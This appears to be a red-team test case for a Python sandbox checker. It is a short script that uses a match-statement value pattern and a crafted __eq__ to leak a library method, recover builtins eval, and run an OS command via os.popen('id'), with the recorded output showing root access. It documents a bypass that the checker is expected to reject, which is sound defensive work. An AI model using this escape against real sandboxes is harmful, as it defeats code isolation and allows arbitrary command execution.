# expect: reject match
# line: 25
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family A: a dotted value pattern or mapping-pattern key whose root is no import (a star-imported name, a program subclass of a library class, cls, an alias, a for target) hands a library method, class or container to the subject's __eq__ or get (ours)
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class K(collections.Counter):
    pass

class Grab:
    def __eq__(self, other):
        raise LookupError(other)

try:
    match Grab():
        case K.copy:
            pass
except Exception as e:
    f = e.args[0]
print("by value:", f)
T = f(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
